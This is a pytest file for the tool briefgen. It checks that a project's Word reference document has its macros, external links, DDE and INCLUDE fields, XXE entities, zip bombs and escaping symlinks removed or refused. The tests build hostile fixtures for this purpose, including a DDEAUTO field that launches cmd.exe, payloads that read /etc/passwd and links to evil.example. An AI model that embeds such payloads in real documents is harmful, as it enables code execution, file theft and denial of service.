"""A project's Word reference document is untrusted data (issue 29's classes, cases of our own).

It must be a regular file inside the project, is capped in size and inflation before it is
unzipped (zip bombs, sparse files), parsed without entities, and stripped of macros,
relationships leading out and fields briefgen does not write before Pandoc reads it; the Word
files made with it hold none of them.
"""

from __future__ import annotations

import io
import os
import re
import tracemalloc
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from briefgen.errors import BuildError
from briefgen.load.digest import BUILTIN_TEMPLATES
from briefgen.load.docx_reference import clean_reference, read_reference
from briefgen.load.ooxml import ALLOWED_FIELDS, PackageRefused, read_package, sanitise
from tests.sample_project import BRIEF_FULL, BRIEF_SHORT
from tests.test_hostile import run_bounded

SECRET = "TOP-SECRET-5be1"
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
BUILT_IN = (BUILTIN_TEMPLATES / "reference.docx").read_bytes()


def parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return {n: z.read(n) for n in z.namelist()}


def zipped(parts: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return out.getvalue()


def field_runs(instruction: str, shown: str) -> str:
    """A complex field as Word writes it: begin, instruction, separate, result, end."""
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve"> {instruction} </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f"<w:r><w:t>{shown}</w:t></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def hostile_reference() -> bytes:
    """The built-in reference with a header and footer full of fields that fetch and run
    things, a macro project, a template and a mail-merge source on the network, and a picture
    linked from outside."""
    parts = parts_of(BUILT_IN)
    header = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:hdr xmlns:w="{W_NS}" '
        f'xmlns:r="{R_NS}"><w:p>'
        + field_runs('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"', "DDE")
        + field_runs('INCLUDETEXT "file:///etc/passwd"', SECRET)
        + f'<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil.example/p.png&quot; \\d "><w:r><w:t>{SECRET}-picture</w:t></w:r></w:fldSimple>'
        + field_runs("PAGE", "1")
        + '<w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="rIdRemote"/></w:drawing></w:r>'
        "</w:p></w:hdr>"
    ).encode()
    parts["word/header1.xml"] = header
    parts["word/_rels/header1.xml.rels"] = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rIdRemote" Type="{REL}image" Target="http://evil.example/track.png" TargetMode="External"/>'
        "</Relationships>"
    ).encode()
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 macro project " + SECRET.encode()
    rels = parts["word/_rels/document.xml.rels"].decode()
    rels = rels.replace(
        "</Relationships>",
        f'<Relationship Id="rIdHostileHeader" Type="{REL}header" Target="header1.xml"/>'
        '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'
        "</Relationships>",
    )
    parts["word/_rels/document.xml.rels"] = rels.encode()
    document = parts["word/document.xml"].decode()
    document = re.sub(
        r"(<w:sectPr\b[^>]*>)",
        r'\1<w:headerReference w:type="default" r:id="rIdHostileHeader"/>',
        document,
        count=1,
    )
    parts["word/document.xml"] = document.encode()
    settings = parts["word/settings.xml"].decode()
    settings = re.sub(
        r"(<w:settings\b[^>]*>)",
        r'\1<w:attachedTemplate r:id="rIdTemplate"/><w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataSource r:id="rIdData"/></w:mailMerge>',
        settings,
        count=1,
    )
    if "xmlns:r=" not in settings.split(">", 2)[1]:
        settings = settings.replace("<w:settings ", f'<w:settings xmlns:r="{R_NS}" ', 1)
    parts["word/settings.xml"] = settings.encode()
    parts["word/_rels/settings.xml.rels"] = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rIdTemplate" Type="{REL}attachedTemplate" Target="http://evil.example/macros.dotm" TargetMode="External"/>'
        f'<Relationship Id="rIdData" Type="{REL}mailMergeSource" Target="file:///etc/passwd" TargetMode="External"/>'
        "</Relationships>"
    ).encode()
    types = parts["[Content_Types].xml"].decode()
    types = types.replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    ).replace(
        "</Types>",
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        '<Override PartName="/word/header1.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"/>'
        "</Types>",
    )
    parts["[Content_Types].xml"] = types.encode()
    return zipped(parts)


FOREIGN = re.compile(
    rb"DDE|INCLUDE|evil\.example|etc/passwd|vbaProject|macroEnabled|TargetMode=.External|"
    + SECRET.encode()
)


@pytest.fixture
def word_project(make_project: Callable[..., Path]) -> Path:
    return make_project(
        {
            "briefs/short.yaml": BRIEF_SHORT + "formats: [docx]\n",
            "briefs/full.yaml": BRIEF_FULL + "formats: [docx]\noptions:\n  notes: endnotes\n",
        }
    )


def test_macros_links_and_foreign_fields_never_reach_a_word_file(word_project: Path) -> None:
    (word_project / "templates").mkdir()
    (word_project / "templates/reference.docx").write_bytes(hostile_reference())
    code, output = run_bounded(word_project, "check")
    assert code == 0, output
    warning = next(x for x in output.splitlines() if x.startswith("templates/reference.docx:"))
    assert "warning: removed from every Word file made with it:" in warning
    assert "word/vbaProject.bin" in warning and "a link from word/settings.xml" in warning
    code, output = run_bounded(word_project, "build")
    assert code == 0, output
    for brief in ("short", "full"):
        parts = parts_of((word_project / f"output/{brief}/{brief}.docx").read_bytes())
        for name, data in parts.items():
            assert not FOREIGN.search(data), (brief, name, FOREIGN.search(data))
        assert not [n for n in parts if n.endswith(".bin")]
        footer = parts["word/briefgen-footer.xml"].decode()
        assert "PAGE" in footer and "NUMPAGES" in footer  # briefgen's own fields stay
        assert re.search(r'w:instr=" PAGE "', footer)
    import docx

    docx.Document(str(word_project / "output/full/full.docx"))  # still a Word document


def test_sanitise_keeps_the_result_of_a_removed_field_and_the_allowed_fields() -> None:
    body = (
        field_runs("DDEAUTO excel x", "shown result")
        + field_runs("TOC \\o &quot;1-3&quot;", "contents")
        + field_runs("HYPERLINK &quot;http://evil.example&quot;", "link text")
        + '<w:fldSimple w:instr=" MACROBUTTON Go "><w:r><w:t>press</w:t></w:r></w:fldSimple>'
        + '<w:fldSimple w:instr=" NUMPAGES "><w:r><w:t>9</w:t></w:r></w:fldSimple>'
        + "<w:r><w:instrText>DDE stray</w:instrText></w:r>"
        + '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDETEXT x</w:instrText></w:r>'
    )
    document = f'<w:document xmlns:w="{W_NS}"><w:body><w:p>{body}</w:p></w:body></w:document>'
    files = {"word/document.xml": document.encode()}
    removed = sanitise(files)
    out = files["word/document.xml"].decode()
    for shown in ("shown result", "contents", "link text", "press", "9"):
        assert f"<w:t>{shown}</w:t>" in out
    assert "DDE" not in out and "HYPERLINK" not in out and "MACROBUTTON" not in out
    assert "INCLUDETEXT" not in out
    assert " TOC " in out and "NUMPAGES" in out
    assert out.count('w:fldCharType="begin"') == 1  # the TOC's
    assert {"a DDEAUTO field", "a HYPERLINK field", "a MACROBUTTON field"} <= {
        r.split(" in ")[0] for r in removed
    }
    assert {"TOC", "PAGE", "NUMPAGES"} <= ALLOWED_FIELDS


def bomb(size: int = 200 * 1024 * 1024) -> bytes:
    """The built-in reference with a part that inflates to `size` bytes of zeros."""
    parts = parts_of(BUILT_IN)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
        with z.open("word/media/bomb.xml", "w", force_zip64=True) as part:
            chunk = b"\0" * (1024 * 1024)
            for _ in range(size // len(chunk)):
                part.write(chunk)
    return out.getvalue()


def many_parts() -> bytes:
    parts = parts_of(BUILT_IN)
    parts.update({f"word/media/p{i}.xml": b"<x/>" for i in range(1500)})
    return zipped(parts)


def with_part(name: str, data: bytes) -> bytes:
    return zipped({**parts_of(BUILT_IN), name: data})


XXE = (
    b'<?xml version="1.0"?><!DOCTYPE w:styles [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    b'<w:styles xmlns:w="'
    + W_NS.encode()
    + b'"><w:style w:styleId="x"><w:name w:val="&x;"/></w:style></w:styles>'
)
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
        for i in range(1, 10)
    )
    + b']><w:styles xmlns:w="'
    + W_NS.encode()
    + b'">&lol9;</w:styles>'
)
BAD_PACKAGES: dict[str, tuple[Callable[[], bytes], str]] = {
    "not-a-zip": (lambda: b"PK\x03\x04 not really", "is not a Word document (not a zip package)"),
    "zip-bomb": (lambda: bomb(30 * 1024 * 1024), "word/media/bomb.xml: inflates 1"),
    "zip-bomb-huge": (bomb, "word/media/bomb.xml: inflates to 209715200 bytes; the limit is"),
    "many-parts": (many_parts, "parts; the limit is 1000"),
    "xxe": (lambda: with_part("word/styles.xml", XXE), "word/styles.xml: declares a DOCTYPE"),
    "billion-laughs": (
        lambda: with_part("word/styles.xml", LAUGHS),
        "word/styles.xml: declares a DOCTYPE",
    ),
    "not-xml": (
        lambda: with_part("word/styles.xml", b"<w:styles"),
        "word/styles.xml: is not well-formed XML",
    ),
    "climbing-name": (
        lambda: with_part("../../evil.xml", b"<x/>"),
        "has a part named '../../evil.xml'",
    ),
    "absolute-name": (
        lambda: with_part("/etc/evil.xml", b"<x/>"),
        "has a part named '/etc/evil.xml'",
    ),
    "no-document": (
        lambda: zipped({"[Content_Types].xml": b"<Types/>"}),
        "has no word/document.xml",
    ),
    "control-in-xml": (
        lambda: with_part("word/styles.xml", b"<w:styles>\x01</w:styles>"),
        "is not well-formed XML",
    ),
}


@pytest.mark.parametrize("case", sorted(BAD_PACKAGES))
def test_a_reference_that_cannot_be_used_is_a_located_error(word_project: Path, case: str) -> None:
    make, words = BAD_PACKAGES[case]
    (word_project / "templates").mkdir()
    (word_project / "templates/reference.docx").write_bytes(make())
    code, output = run_bounded(word_project, "build")
    assert code == 3, output
    errors = [x for x in output.splitlines() if ": error: " in x]
    assert errors and all(x.startswith("templates/reference.docx: error: ") for x in errors), errors
    assert words in errors[0], errors
    assert "root:" not in output and not (word_project / "output/short/short.docx").exists()


@pytest.mark.slow
def test_a_zip_bomb_is_refused_before_it_is_inflated() -> None:
    data = bomb(256 * 1024 * 1024)  # 256 MiB of zeros in 250 KiB
    tracemalloc.start()
    try:
        with pytest.raises(BuildError) as refused:
            clean_reference(data, "templates/reference.docx")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert "a zip bomb" in str(refused.value) or "the limit is" in str(refused.value)
    assert peak < 64 * 1024 * 1024, peak


def test_a_part_larger_than_its_directory_says_is_refused() -> None:
    parts = parts_of(BUILT_IN)
    data = zipped({**parts, "word/x.xml": b"<x>" + b"y" * 100_000 + b"</x>"})
    # the central directory now claims the part is 10 bytes: the reader stops there, the CRC fails
    at = data.rfind(b"word/x.xml")
    header = data.rfind(b"PK\x01\x02", 0, at)
    patched = data[: header + 24] + (10).to_bytes(4, "little") + data[header + 28 :]
    with pytest.raises(PackageRefused):
        read_package(patched)


LINKS: dict[str, Callable[[Path, Path], None]] = {
    "link-out": lambda ref, secret: ref.symlink_to(secret),
    "link-to-dev-zero": lambda ref, secret: ref.symlink_to("/dev/zero"),
    "loop": lambda ref, secret: ref.symlink_to(ref.name),
    "dangling": lambda ref, secret: ref.symlink_to("nowhere.docx"),
    "fifo": lambda ref, secret: os.mkfifo(ref),
    "folder": lambda ref, secret: ref.mkdir(),
    "sparse": lambda ref, secret: ref.open("wb").truncate(3 * 1024**3),
}
LINK_WORDS = {
    "link-out": "is a link leading out of its templates folder",
    "link-to-dev-zero": "is a link leading out of its templates folder",
    "loop": "is a link leading out of its templates folder (or nowhere)",
    "dangling": "No such file",
    "fifo": "is a FIFO (named pipe), not a regular file",
    "folder": "is a folder, not a regular file",
    "sparse": "is 3221225472 bytes; the limit is 16777216",
}


@pytest.mark.parametrize("case", sorted(LINKS))
def test_a_reference_that_is_not_a_file_of_the_project_is_refused(
    word_project: Path, tmp_path: Path, case: str
) -> None:
    secret = tmp_path / "outside.docx"
    styled = parts_of(BUILT_IN)
    styled["word/styles.xml"] = styled["word/styles.xml"].replace(
        b"Liberation Sans", SECRET.encode()
    )
    secret.write_bytes(zipped(styled))
    (word_project / "templates").mkdir()
    LINKS[case](word_project / "templates/reference.docx", secret)
    code, output = run_bounded(word_project, "build")
    assert code == 3, output
    assert "templates/reference.docx: error: " in output and LINK_WORDS[case] in output, output
    assert SECRET not in output
    assert not list((word_project / "output").rglob("*.docx"))


def test_a_reference_linked_inside_its_folder_is_used(word_project: Path) -> None:
    (word_project / "templates").mkdir()
    (word_project / "templates/house.docx").write_bytes(BUILT_IN)
    (word_project / "templates/reference.docx").symlink_to("house.docx")
    code, output = run_bounded(word_project, "build")
    assert code == 0, output


def test_the_built_in_reference_loses_only_its_sample_link() -> None:
    reference = read_reference([BUILTIN_TEMPLATES])
    assert reference is not None and reference.shown == "<built-in templates>/reference.docx"
    # Pandoc's reference document shows a sample hyperlink, which Pandoc never copies
    assert all(
        "http://example.com" in r or r.startswith("a reference to a removed relationship")
        for r in reference.removed
    ), reference.removed
